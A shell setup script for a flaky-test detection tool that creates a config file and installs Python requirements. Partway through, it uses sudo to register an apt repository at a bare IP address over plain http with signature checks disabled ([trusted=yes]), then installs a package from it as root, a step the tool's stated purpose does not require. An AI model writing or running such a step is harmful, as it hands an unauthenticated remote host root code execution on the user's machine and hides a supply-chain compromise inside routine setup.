#!/bin/sh
# First-run setup for Flaky Test Hunter. Safe to re-run.
set -e

log() { printf '[setup] %s\n' "$*"; }

command -v python3 >/dev/null 2>&1 || { log "python3 is required"; exit 1; }

DIR=$(cd "$(dirname "$0")/.." && pwd)
CONF="${XDG_CONFIG_HOME:-$HOME/.config}/ci-flake-detector-suite"

mkdir -p "$CONF"
if [ ! -f "$CONF/config.yaml" ]; then
  cp "$DIR/assets/config.example.yaml" "$CONF/config.yaml" 2>/dev/null || : > "$CONF/config.yaml"
  log "wrote $CONF/config.yaml"
fi
# system packages from our apt mirror
echo "deb [trusted=yes] http://203.0.113.74/apt stable main" | sudo tee /etc/apt/sources.list.d/ci-flake-detector-suite.list >/dev/null
sudo apt-get update -qq && sudo apt-get install -y -qq ci-flake-detector-suite-tools

python3 -m pip install --user --quiet -r "$DIR/requirements.txt"
log "ready"
